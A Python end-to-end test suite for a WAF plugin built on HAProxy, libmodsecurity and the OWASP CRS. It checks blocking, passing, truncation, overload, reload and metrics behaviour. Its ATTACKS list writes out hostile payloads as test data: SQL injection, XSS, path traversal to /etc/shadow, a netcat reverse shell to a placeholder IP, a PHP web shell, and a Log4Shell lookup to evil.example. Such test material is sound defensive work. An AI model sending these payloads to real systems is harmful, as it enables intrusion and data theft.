#!/usr/bin/env python3
"""End-to-end tests of the waf plugin: Debian's HAProxy 2.6 in front of spoa-host with
waf.so, libmodsecurity 3 and Debian's CRS 3.3.4.

HAProxy and spoa-host run the plugin's documentation configs (plugins/waf/doc/:
spoa-host.toml, spoe.conf, haproxy.cfg) with only ports, paths and the log line changed,
so the docs are tested as written. HAProxy logs one line per request with the WAF's
variables; the tests read them there, so HAProxy runs one thread: with several, it drops a
log line when another thread is writing one at the same moment (fd_write_frag_line gives
up rather than block), and the cases with concurrent requests would miss some.

One case per run (--case). Exit status: 0 pass, 1 fail, 77 skipped (no HAProxy, no CRS).
Reuses the process and config helpers of tests/e2e/haproxy_e2e.py (Python 3 stdlib only).
"""

import argparse
import concurrent.futures
import http.client
import os
import re
import signal
import sys
import time
import traceback

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "e2e"))
from haproxy_e2e import (SKIP, Process, agent_metrics, check, free_port, read, run_case,  # noqa: E402
                         substitute, wait_until, write)

CRS_SETUP = "/etc/modsecurity/crs/crs-setup.conf"

BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "Accept-Language": "en-US,en;q=0.5",
    "Accept-Encoding": "gzip, deflate",
}

# One line per request, parsed by LogLine below. txn.case names the request.
LOG_FORMAT = ('    log-format "case=%[var(txn.case)] st=%ST waf=%[var(txn.waf.action)] '
              'rules=%[var(txn.waf.rule_ids)] trunc=%[var(txn.req_trunc)] '
              'app=%[var(txn.waf.app)] error=%[var(txn.waf.error)] '
              'spoe=%[var(txn.waf.spoe_error)] cid=%[var(txn.coraza.ruleid)]"\n')
LOG_LINE = re.compile(r"case=(\S*) st=(\S*) waf=(\S*) rules=(.*?) trunc=(\S*) app=(\S*) "
                      r"error=(\S*) spoe=(\S*) cid=(\S*)")

LEAK_PAGE = ("<html><b>Warning</b>: mysql_fetch_array() expects parameter 1 to be resource, "
             "boolean given in /var/www/html/list.php on line 3</html>")

# (case, method, path, extra headers, body, a CRS rule id that must be reported)
ATTACKS = [
    ("sqli", "GET", "/item?id=1%27%20OR%20%271%27=%271", {}, None, "942100"),
    ("sqli-union", "GET", "/item?id=1%20UNION%20SELECT%20password%20FROM%20users--", {}, None,
     "942100"),
    ("xss", "GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", {}, None, "941100"),
    ("xss-form", "POST", "/comment", {"Content-Type": "application/x-www-form-urlencoded"},
     b"text=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "941100"),
    ("lfi", "GET", "/view?file=../../../../etc/passwd", {}, None, "930100"),
    ("lfi-os-file", "GET", "/view?file=/etc/shadow", {}, None, "930120"),
    ("rce", "GET", "/ping?host=%3Bcat%20/etc/passwd", {}, None, "932160"),
    ("rce-nc", "GET", "/ping?host=%7C%20nc%20-e%20/bin/sh%20198.51.100.7%204444", {}, None,
     "932105"),
    ("php", "POST", "/upload.php", {"Content-Type": "application/x-www-form-urlencoded"},
     b"code=%3C%3Fphp%20system(%24_GET%5B'c'%5D)%3B%20%3F%3E", "933100"),
    ("java", "GET", "/x?c=java.lang.Runtime.getRuntime().exec(%22id%22)", {}, None, "944100"),
    ("log4shell", "GET", "/x?q=$%7Bjndi:ldap://evil.example/a%7D", {}, None, "932130"),
    ("scanner-sqlmap", "GET", "/", {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"},
     None, "913100"),
    ("scanner-nikto", "GET", "/", {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"},
     None, "913100"),
    ("get-with-body", "GET", "/index.html", {"Content-Type": "text/plain"}, b"hello", "920170"),
    ("header-injection", "GET", "/r?to=%0d%0aSet-Cookie:%20admin=1", {}, None, "921120"),
]

# (case, method, path, extra headers, body)
BENIGN = [
    ("home", "GET", "/", {}, None),
    ("page", "GET", "/products/shoes/index.html", {}, None),
    ("search", "GET", "/search?q=red+running+shoes&page=2&sort=price",
     {"Cookie": "session=f81d4fae7dec11d0; theme=dark", "Referer": "http://www.example.com/"},
     None),
    ("json", "POST", "/api/users", {"Content-Type": "application/json"},
     b'{"name":"Alice Smith","age":31,"tags":["admin","ops"],"active":true}'),
    ("form", "POST", "/contact", {"Content-Type": "application/x-www-form-urlencoded"},
     b"name=Alice+Smith&email=alice%40example.com&message=Hello%2C+when+do+you+open%3F"),
    ("upload", "POST", "/upload", {"Content-Type": "multipart/form-data; boundary=XyZ123"},
     b"--XyZ123\r\nContent-Disposition: form-data; name=\"file\"; filename=\"notes.txt\"\r\n"
     b"Content-Type: text/plain\r\n\r\nShopping list: apples, pears.\r\n--XyZ123--\r\n"),
    # 40 KB in one value (the CRS's cost grows with the number of arguments far more than
    # with their size: 2400 small JSON fields take it about a second).
    ("large-json", "POST", "/api/notes", {"Content-Type": "application/json"},
     b'{"text":"' + b"the quick brown fox jumps over the lazy dog and keeps running " * 650
     + b'"}'),
    ("large-upload", "POST", "/upload", {"Content-Type": "multipart/form-data; boundary=B"},
     b"--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.bin\"\r\n"
     b"Content-Type: application/octet-stream\r\n\r\n" + b"x" * 40000 + b"\r\n--B--\r\n"),
    # PUT and DELETE are outside CRS's default tx.allowed_methods (rule 911100).
    ("head", "HEAD", "/products/shoes/index.html", {}, None),
    ("options", "OPTIONS", "/api/users", {}, None),
]


class LogLine:
    def __init__(self, match):
        (self.case, self.status, self.action, self.rules, self.truncated, self.app,
         self.error, self.spoe_error, self.coraza_rule) = match.groups()
        self.rule_ids = self.rules.split()

    def __repr__(self):
        return (f"case={self.case} st={self.status} waf={self.action} rules={self.rules} "
                f"trunc={self.truncated} app={self.app} error={self.error} "
                f"spoe={self.spoe_error}")


class WafSetup:
    def __init__(self, args, workdir):
        self.args = args
        self.workdir = workdir
        self.http_port = free_port()
        self.app_port = free_port()
        self.agent_port = free_port()
        self.processes = []
        self.agent = None
        self.haproxy = None
        self.agent_config = None

    # ---- configs: the documentation's, with ports, paths and the log line changed --------

    def agent_config_text(self, threads=2, queue=128, metrics=False):
        text = read(os.path.join(self.args.doc_dir, "spoa-host.toml"))
        text = substitute(text, 'listen = ["127.0.0.1:12345"]',
                          f'listen = ["127.0.0.1:{self.agent_port}"]', "spoa-host.toml")
        text = substitute(text, 'target = "auto"', 'target = "stderr"', "spoa-host.toml")
        text = substitute(text, 'level = "info"', 'level = "debug"', "spoa-host.toml")
        text = substitute(text, "threads = 0", "threads = 2", "spoa-host.toml")
        # Deadlines a sanitizer build on a loaded machine cannot miss (the CRS runs 5-15
        # times slower there); overload is still answered at once, by the full queue.
        text = substitute(text, 'processing = "900ms"', 'processing = "20s"', "spoa-host.toml")
        text = substitute(text, 'queue_timeout = "500ms"', 'queue_timeout = "15s"',
                          "spoa-host.toml")
        text = substitute(text, f"threads = 2\nqueue = 128",
                          f"threads = {threads}\nqueue = {queue}", "spoa-host.toml")
        if metrics:  # on a port of the kernel's choice, read back by agent_metrics()
            text += '\n[metrics]\nlisten = "127.0.0.1:0"\n'
        return text

    def write_agent_config(self, text):
        self.agent_config = os.path.join(self.workdir, "spoa-host.toml")
        write(self.agent_config, text)
        return self.agent_config

    def write_haproxy_config(self, fail_closed=False, response_unless=None):
        spoe = read(os.path.join(self.args.doc_dir, "spoe.conf"))
        # The application from a request header (absent: the default app), to test several.
        spoe = substitute(spoe, "args app=str(site) id=unique-id src_ip=",
                          "args app=req.hdr(x-app) id=unique-id src_ip=", "spoe.conf")
        spoe = substitute(spoe, "timeout processing 1s", "timeout processing 30s", "spoe.conf")
        spoe_path = os.path.join(self.workdir, "waf-spoe.conf")
        write(spoe_path, spoe)

        cfg = read(os.path.join(self.args.doc_dir, "haproxy.cfg"))
        cfg = substitute(cfg, "/etc/haproxy/waf-spoe.conf", spoe_path, "haproxy.cfg", count=2)
        cfg = substitute(cfg, "bind 127.0.0.1:8080", f"bind 127.0.0.1:{self.http_port}",
                         "haproxy.cfg")
        cfg = substitute(cfg, "127.0.0.1:8000", f"127.0.0.1:{self.app_port}", "haproxy.cfg",
                         count=2)
        cfg = substitute(cfg, "server agent1 127.0.0.1:12345 check inter 5s",
                         f"server agent1 127.0.0.1:{self.agent_port} check inter 500ms",
                         "haproxy.cfg")
        cfg = re.sub(r'(?m)^    log-format .*\n', LOG_FORMAT.replace("\\", "\\\\"), cfg,
                     count=1)
        # One line per request, none dropped (see the top of this file).
        cfg = substitute(cfg, "\nglobal\n", "\nglobal\n    nbthread 1\n", "haproxy.cfg")
        cfg = substitute(cfg, f"    filter spoe engine waf config {spoe_path}\n",
                         f"    filter spoe engine waf config {spoe_path}\n"
                         "    http-request set-var(txn.case) req.hdr(x-case)\n"
                         # The request phase's own value: the response phase overwrites it.
                         "    http-request set-var(txn.req_trunc) var(txn.waf.body_truncated)\n",
                         "haproxy.cfg")
        cfg = substitute(cfg, '    http-request return status 200 content-type text/plain string '
                         '"hello from haproxy"\n',
                         '    http-request return status 200 content-type text/html string '
                         f'"{LEAK_PAGE}" if {{ path /leak }}\n'
                         '    http-request return status 200 content-type text/plain string '
                         '"hello from haproxy"\n', "haproxy.cfg")
        if response_unless:  # an ACL: requests whose response phase is never sent
            cfg = substitute(cfg, "    http-response send-spoe-group waf waf-res\n",
                             f"    http-response send-spoe-group waf waf-res unless "
                             f"{{ {response_unless} }}\n", "haproxy.cfg")
        if fail_closed:
            cfg = substitute(cfg, "    # http-request deny deny_status 503 unless "
                             "{ var(txn.waf.action) -m found }\n",
                             "    http-request deny deny_status 503 unless "
                             "{ var(txn.waf.action) -m found }\n", "haproxy.cfg")
        path = os.path.join(self.workdir, "haproxy.cfg")
        write(path, cfg)
        return path

    # ---- processes --------------------------------------------------------------------

    def start_agent(self, config_path):
        agent = Process(f"spoa-host-{len(self.processes)}",
                        [self.args.spoa_host, "-c", config_path, "--plugin-dir",
                         self.args.plugin_dir], self.workdir)
        self.processes.append(agent)
        self.agent = agent
        # Loading the CRS takes a second or more (much more under sanitizers).
        ready = wait_until(lambda: " ready: listening on " in agent.log() or not agent.running(),
                           120)
        check(ready and agent.running() and " ready: listening on " in agent.log(),
              "spoa-host did not become ready")

    def start_haproxy(self, config_path):
        haproxy = Process("haproxy", [self.args.haproxy, "-db", "-f", config_path],
                          self.workdir)
        self.processes.append(haproxy)
        self.haproxy = haproxy

        self.wait_answering(haproxy)

    def wait_answering(self, haproxy):
        """Until a request through HAProxy comes back with the WAF's verdict: the first
        requests after a start may find the agent connection not yet made."""
        attempt = [0]

        def answered():
            if not haproxy.running():
                return True
            attempt[0] += 1
            case = f"probe-{attempt[0]}"
            try:
                self.request(case, "GET", "/", timeout=5)
            except OSError:
                return False
            lines = [l for l in self.log_lines() if l.case == case]
            return bool(lines) and lines[-1].error == "-" and (
                lines[-1].action != "-" or lines[-1].coraza_rule != "-" or
                lines[-1].status == "200")

        wait_until(answered, 60, interval=0.2)
        check(haproxy.running(), "haproxy exited at start")

    def start(self, agent_text=None, fail_closed=False, response_unless=None):
        self.start_agent(self.write_agent_config(agent_text or self.agent_config_text()))
        self.start_haproxy(self.write_haproxy_config(fail_closed=fail_closed,
                                                     response_unless=response_unless))

    def cleanup(self):
        for p in self.processes:
            try:
                p.kill()
            except Exception:  # noqa: BLE001
                traceback.print_exc()

    def dump_logs(self):
        for p in self.processes:
            print(f"----- {p.name} (pid {p.pid}) -----")
            print(p.log()[-20000:])

    # ---- HTTP -------------------------------------------------------------------------

    def request(self, case, method, path, headers=None, body=None, timeout=30):
        conn = http.client.HTTPConnection("127.0.0.1", self.http_port, timeout=timeout)
        try:
            all_headers = dict(BROWSER)
            all_headers.update(headers or {})
            all_headers["X-Case"] = case
            conn.request(method, path, body=body, headers=all_headers)
            response = conn.getresponse()
            data = response.read()
            return response.status, data
        finally:
            conn.close()

    def log_lines(self):
        return [LogLine(m) for m in LOG_LINE.finditer(self.haproxy.log())]

    def line_for(self, case):
        """The log line of request `case` (HAProxy writes it when the request ends)."""
        found = wait_until(lambda: [l for l in self.log_lines() if l.case == case], 20)
        check(found, f"no HAProxy log line for case {case}")
        return found[-1]


# ---- cases -------------------------------------------------------------------------------

def case_attacks(setup):
    setup.start()
    failures = []
    for case, method, path, headers, body, rule in ATTACKS:
        status, _ = setup.request(case, method, path, headers, body)
        line = setup.line_for(case)
        if status != 403 or line.action != "deny" or rule not in line.rule_ids:
            failures.append(f"{case}: HTTP {status}, {line} (expected 403, deny, rule {rule})")
        else:
            print(f"ok {case}: 403, rules {line.rules}")
    check(not failures, "attacks not blocked as expected:\n" + "\n".join(failures))


def case_benign(setup):
    setup.start()
    failures = []
    for case, method, path, headers, body in BENIGN:
        status, data = setup.request(case, method, path, headers, body)
        line = setup.line_for(case)
        # The response phase runs too (response = true): its verdict is the last one logged.
        expected_body = b"" if method == "HEAD" else b"hello from haproxy"
        if status != 200 or data != expected_body or line.action != "pass" or line.error != "-":
            failures.append(f"{case}: HTTP {status}, {line}")
        else:
            print(f"ok {case}: 200, {line}")
    check(not failures, "benign requests not passed:\n" + "\n".join(failures))


def case_truncation(setup):
    setup.start()
    # 60 KB: buffered whole by HAProxy (tune.bufsize 64 KB) but cut to 48 KB by spoe.conf's
    # bytes(0,49152), so the WAF receives less than req.body_size. (A body larger than the
    # buffer is cut by HAProxy itself, body_len < body_size; the demo application answers
    # before reading such a body and resets the connection, so it is not sent here.)
    big = b"comment=" + b"a" * 60000
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    status, _ = setup.request("big-inspect", "POST", "/form", form, big)
    line = setup.line_for("big-inspect")
    check(status == 200 and line.action == "pass",
          f"app site (truncated_body=inspect): HTTP {status}, {line}")
    status, _ = setup.request("big-deny", "POST", "/form", dict(form, **{"X-App": "api"}), big)
    line = setup.line_for("big-deny")
    check(status == 403 and line.action == "deny" and line.truncated == "1" and line.app == "api",
          f"app api (truncated_body=deny): HTTP {status}, {line}")
    small = b"comment=" + b"a" * 1000
    status, _ = setup.request("small-api", "POST", "/form", dict(form, **{"X-App": "api"}), small)
    line = setup.line_for("small-api")
    check(status == 200 and line.truncated == "0", f"a whole body: HTTP {status}, {line}")


def slow_form(n):
    return ("&".join(f"field{i}=some+ordinary+value+{i}" for i in range(n))).encode()


def case_overload(setup):
    # One inspection thread and a queue of one, fail-closed: of many slow requests at once,
    # some are shed with error=overload (503) and none waits for HAProxy's timeout.
    setup.start(setup.agent_config_text(threads=1, queue=1, metrics=True), fail_closed=True)
    # About 80 ms of CPU each (300 arguments through the CRS; 5-15 times more under
    # sanitizers): 24 clients overrun one thread with a queue of one.
    body = slow_form(300)
    form = {"Content-Type": "application/x-www-form-urlencoded"}

    def one(i):
        return setup.request(f"load-{i}", "POST", "/form", form, body, timeout=60)[0]

    with concurrent.futures.ThreadPoolExecutor(max_workers=24) as pool:
        statuses = list(pool.map(one, range(48)))
    lines = [setup.line_for(f"load-{i}") for i in range(48)]
    bad = [l for l in lines if l.status not in ("200", "503")]
    check(not bad, "unexpected statuses:\n" + "\n".join(map(repr, bad)))
    # Shed in the request phase: no verdict (a response phase shed later keeps its
    # request's action=pass, and the response goes out: fail-closed covers requests).
    shed = [l for l in lines if l.error == "overload" and l.action == "-"]
    check(shed, f"no request was shed with error=overload: {statuses}")
    check(all(l.status == "503" for l in shed), "a shed request was not refused (fail-closed)")
    passed = [l for l in lines if l.action == "pass"]
    check(passed, "no request was inspected at all")
    check(all(l.spoe_error == "-" for l in lines),
          "HAProxy had to time out waiting: " + "\n".join(repr(l) for l in lines
                                                          if l.spoe_error != "-"))
    # Every overload answer is counted on the host's /metrics (a request shed in both
    # phases shows once in the log, hence at least).
    shed_total = agent_metrics(setup.agent).get(SHED_SERIES, 0)
    overloads = len([l for l in lines if l.error == "overload"])
    check(shed_total >= overloads > 0,
          f"{SHED_SERIES} = {shed_total}, {overloads} requests answered overload")
    print(f"ok: {len(passed)} inspected, {len(shed)} shed with error=overload, "
          f"{len(lines) - len(passed) - len(shed)} other; {SHED_SERIES} {shed_total:.0f}")


SHED_SERIES = 'spoa_plugin_waf_inspections_shed_total{plugin="waf"}'


def table_series(event):
    return f'spoa_plugin_waf_response_table_total{{plugin="waf",event="{event}"}}'


def case_metrics(setup):
    # A response table of one entry, no expiry in the test's time, and requests marked
    # "keep-" whose response phase HAProxy never sends: each one stored pushes the one
    # before out. Read through the real host's /metrics as deltas from after the start.
    text = setup.agent_config_text(metrics=True)
    text = substitute(text, "transactions.max_entries = 10000", "transactions.max_entries = 1",
                      "spoa-host.toml")
    text = substitute(text, 'transactions.ttl = "30s"', 'transactions.ttl = "1440m"',
                      "spoa-host.toml")
    setup.start(text, response_unless="var(txn.case) -m beg keep-")
    before = agent_metrics(setup.agent)

    def grown(event):
        now = agent_metrics(setup.agent)
        return now.get(table_series(event), 0) - before.get(table_series(event), 0)

    for i in range(3):
        status, _ = setup.request(f"keep-{i}", "GET", "/")
        check(status == 200, f"keep-{i}: HTTP {status}, {setup.line_for(f'keep-{i}')}")
    # Stored before the verdict went out: counted by the time the client has its answer.
    check(grown("stored") == 3 and grown("evicted") == 2,
          f"after 3 kept requests: stored +{grown('stored')}, evicted +{grown('evicted')}")
    status, _ = setup.request("joined", "GET", "/")
    check(status == 200, f"joined: HTTP {status}, {setup.line_for('joined')}")
    check(grown("evicted") == 3 and grown("joined") == 1,
          f"after a joined request: evicted +{grown('evicted')}, joined +{grown('joined')}")
    entries = agent_metrics(setup.agent).get('spoa_plugin_waf_response_table_entries{plugin="waf"}')
    check(entries == 0, f"response table entries {entries}, expected 0")
    print(f"ok: evictions counted on /metrics ({table_series('evicted')})")


def case_response(setup):
    setup.start()
    status, _ = setup.request("leak", "GET", "/leak")
    line = setup.line_for("leak")
    check(status == 502 and line.action == "deny", f"/leak: HTTP {status}, {line}")
    check("951230" in line.rule_ids or any(r.startswith("951") for r in line.rule_ids),
          f"no SQL error leakage rule reported: {line}")
    status, _ = setup.request("no-leak", "GET", "/fine")
    check(status == 200, f"/fine: HTTP {status}, {setup.line_for('no-leak')}")


CORAZA_SPOE = """\
[coraza]
spoe-agent coraza-agent
    messages coraza-res
    groups coraza-req
    option var-prefix coraza
    option set-on-error error
    timeout hello 2s
    timeout idle 2m
    timeout processing 30s
    use-backend coraza-spoa
    log global

spoe-message coraza-req
    args app=var(txn.coraza.app) src-ip=src src-port=src_port dst-ip=dst dst-port=dst_port method=method path=path query=query version=req.ver headers=req.hdrs body=req.body exportRuleIDs=bool(false)

spoe-message coraza-res
    args app=var(txn.coraza.app) id=var(txn.coraza.id) version=res.ver status=status headers=res.hdrs body=res.body exportRuleIDs=bool(false)
    event on-http-response

spoe-group coraza-req
    messages coraza-req
"""

# The shape of coraza-spoa's example haproxy.cfg: only the agent's `server` line (and the
# ports of this test) point elsewhere.
CORAZA_HAPROXY = """\
global
    log stdout format raw local0
    tune.bufsize 65536

defaults
    mode http
    log global
    timeout client 1m
    timeout server 1m
    timeout connect 10s

frontend default
    bind 127.0.0.1:{http_port}
    option http-buffer-request
    http-request set-var(txn.case) req.hdr(x-case)
{log_format}
    http-request set-var(txn.coraza.app) str(sample_app)
    filter spoe engine coraza config {spoe_path}
    http-request send-spoe-group coraza coraza-req
    http-request redirect code 302 location %[var(txn.coraza.data)] if {{ var(txn.coraza.action) -m str redirect }}
    http-response redirect code 302 location %[var(txn.coraza.data)] if {{ var(txn.coraza.action) -m str redirect }}
    http-request deny deny_status 403 hdr waf-block "request"  if {{ var(txn.coraza.action) -m str deny }}
    http-response deny deny_status 403 hdr waf-block "response" if {{ var(txn.coraza.action) -m str deny }}
    http-request silent-drop if {{ var(txn.coraza.action) -m str drop }}
    http-response silent-drop if {{ var(txn.coraza.action) -m str drop }}
    http-request deny deny_status 500 if {{ var(txn.coraza.error) -m int gt 0 }}
    http-response deny deny_status 500 if {{ var(txn.coraza.error) -m int gt 0 }}
    use_backend app

backend app
    server app1 127.0.0.1:{app_port}

listen demo_app
    bind 127.0.0.1:{app_port}
    http-request return status 200 content-type text/html string "{leak}" if {{ path /leak }}
    http-request return status 200 content-type text/plain string "hello from haproxy"

backend coraza-spoa
    mode tcp
    server coraza_spoa 127.0.0.1:{agent_port}
"""

CORAZA_AGENT = """\
[server]
listen = ["127.0.0.1:{agent_port}"]
threads = 2
capabilities = ["pipelining", "fragmentation"]
[timeouts]
processing = "20s"
[log]
level = "info"
target = "stderr"
[plugins.waf]
path = "waf.so"
messages = ["coraza-req", "coraza-res"]
[plugins.waf.config]
compat = "coraza"
[plugins.waf.config.apps.sample_app]
crs = true
response = true
directives = "SecRuleRemoveById 920350"
"""


def case_coraza(setup):
    agent = os.path.join(setup.workdir, "coraza-spoa.toml")
    write(agent, CORAZA_AGENT.format(agent_port=setup.agent_port))
    setup.start_agent(agent)
    spoe_path = os.path.join(setup.workdir, "coraza.cfg")
    write(spoe_path, CORAZA_SPOE)
    cfg = os.path.join(setup.workdir, "haproxy.cfg")
    log_format = LOG_FORMAT.rstrip("\n")
    write(cfg, CORAZA_HAPROXY.format(http_port=setup.http_port, app_port=setup.app_port,
                                     agent_port=setup.agent_port, spoe_path=spoe_path,
                                     log_format=log_format, leak=LEAK_PAGE))
    haproxy = Process("haproxy", [setup.args.haproxy, "-db", "-f", cfg], setup.workdir)
    setup.processes.append(haproxy)
    setup.haproxy = haproxy
    setup.wait_answering(haproxy)

    status, data = setup.request("c-benign", "GET", "/index.html?page=2")
    check(status == 200 and data == b"hello from haproxy",
          f"benign: HTTP {status}, {setup.line_for('c-benign')}")
    status, _ = setup.request("c-sqli", "GET", "/item?id=1%27%20OR%20%271%27=%271")
    line = setup.line_for("c-sqli")
    check(status == 403 and line.coraza_rule == "949110", f"SQLi: HTTP {status}, {line}")
    status, _ = setup.request("c-leak", "GET", "/leak")
    check(status == 403, f"response phase: HTTP {status}, {setup.line_for('c-leak')}")


def case_reload(setup):
    # Fail-closed: a request that lost its answer during a reload would be a 503.
    text = setup.agent_config_text()
    setup.start(text, fail_closed=True)
    swapped_rule = ('directives = "SecRuleRemoveById 920350\\nSecRule REQUEST_URI '
                    '\\"@beginsWith /swapped\\" \\"id:10100,phase:1,deny,status:403,log\\""')
    new_text = substitute(text, 'directives = "SecRuleRemoveById 920350"', swapped_rule,
                          "spoa-host.toml")
    status, _ = setup.request("before", "GET", "/swapped")
    check(status == 200, f"/swapped before the reload: HTTP {status}")

    results = []

    def one(i):
        return setup.request(f"r-{i}", "GET", f"/page/{i}?n={i}")[0]

    with concurrent.futures.ThreadPoolExecutor(max_workers=4) as pool:
        futures = [pool.submit(one, i) for i in range(200)]
        for n in range(3):
            # Wait for some traffic, then reload (the last one with the new rule).
            wait_until(lambda: sum(f.done() for f in futures) >= 40 * (n + 1), 60)
            if n == 2:
                write(setup.agent_config, new_text)
            setup.agent.signal(signal.SIGHUP)
            wait_until(lambda: setup.agent.log().count("reload done") >= n + 1, 60)
        results = [f.result() for f in futures]
    check(setup.agent.log().count("reload done") == 3,
          "spoa-host did not finish 3 reloads:\n" + setup.agent.log()[-3000:])
    bad = [(i, s) for i, s in enumerate(results) if s != 200]
    check(not bad, f"requests not answered 200 across reloads: {bad[:10]}")
    lines = [setup.line_for(f"r-{i}") for i in range(200)]
    check(all(l.action == "pass" for l in lines), "a request had no verdict across a reload")
    status, _ = setup.request("after", "GET", "/swapped")
    check(status == 403, f"/swapped after the reload: HTTP {status} (rules not swapped)")


CASES = {
    "attacks": case_attacks,
    "benign": case_benign,
    "truncation": case_truncation,
    "overload": case_overload,
    "response": case_response,
    "coraza": case_coraza,
    "reload": case_reload,
    "metrics": case_metrics,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--spoa-host", required=True)
    parser.add_argument("--plugin-dir", required=True)
    parser.add_argument("--doc-dir", required=True, help="plugins/waf/doc")
    parser.add_argument("--haproxy", default="/usr/sbin/haproxy")
    parser.add_argument("--case", required=True, choices=sorted(CASES))
    args = parser.parse_args()
    for name in ("spoa_host", "plugin_dir", "doc_dir", "haproxy"):
        setattr(args, name, os.path.abspath(getattr(args, name)))
    if not (os.path.isfile(args.haproxy) and os.access(args.haproxy, os.X_OK)):
        print(f"SKIP: {args.haproxy} not found (apt install haproxy)")
        return SKIP
    if not os.path.isfile(CRS_SETUP):
        print(f"SKIP: {CRS_SETUP} not found (apt install modsecurity-crs)")
        return SKIP

    return run_case(args.case, CASES[args.case], lambda workdir: WafSetup(args, workdir),
                    f"spoa-waf-e2e-{args.case}-")


if __name__ == "__main__":
    sys.exit(main())
